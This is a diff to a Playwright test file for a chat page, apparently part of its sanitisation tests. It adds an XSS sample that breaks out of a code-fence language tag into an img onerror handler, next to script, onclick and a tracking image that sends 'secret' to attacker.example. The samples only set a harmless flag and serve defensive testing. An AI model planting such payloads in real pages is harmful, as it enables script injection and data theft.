@@ -51,7 +51,11 @@ XSS = """<script>window.__xss = "script"</script>
 
 ![tracker](https://attacker.example/pixel.png?q=secret)
 
-<p onclick="window.__xss = 'p'">click</p>"""
+<p onclick="window.__xss = 'p'">click</p>
+
+```"><img src=x onerror="window.__xss='lang'">
+code
+```"""
 
 
 @pytest.fixture
@@ -127,7 +131,9 @@ def test_copy_puts_the_markdown_or_the_code_on_the_clipboard(clipboard_page: Pag
     expect(page.locator("#status")).to_have_text("Copied to the clipboard.")
     assert page.evaluate("navigator.clipboard.readText()") == CODE
     page.click(".turn:last-child .copy-answer")
-    assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN
+    page.wait_for_function(
+        "async (expected) => (await navigator.clipboard.readText()) === expected", arg=MARKDOWN
+    )
 
 
 def gap_above_composer(page: Page, selector: str) -> float:
@@ -150,6 +156,10 @@ def test_the_newest_line_stays_above_the_composer_until_the_reader_scrolls_away(
     # The reader scrolls up to read: the page stops following, and offers the way back.
     page.mouse.wheel(0, -2000)
     expect(page.locator("#jump")).to_be_visible()
+    # The wheel's scroll has settled before the position is taken.
+    page.wait_for_function(
+        "() => new Promise((done) => { const y = scrollY; setTimeout(() => done(scrollY === y), 300); })"
+    )
     top = page.evaluate("scrollY")
     page.wait_for_function(f"document.querySelector('{ANSWER}').textContent.split(' ').length > 450")
     assert page.evaluate("scrollY") == top
